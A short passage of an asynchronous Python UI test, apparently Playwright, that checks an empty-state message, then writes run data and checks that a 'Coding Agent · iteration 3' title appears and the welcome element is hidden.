    await expect(tab.get_by_role("status").filter(has_text="There are no runs in this folder yet")).to_be_visible()
    await expect(tab.get_by_role("search")).to_be_hidden()
    runs.write(*BEGINNING)
    await expect(tab.locator(".row.divider .title")).to_contain_text("Coding Agent · iteration 3")
    await expect(tab.locator("#welcome")).to_be_hidden()
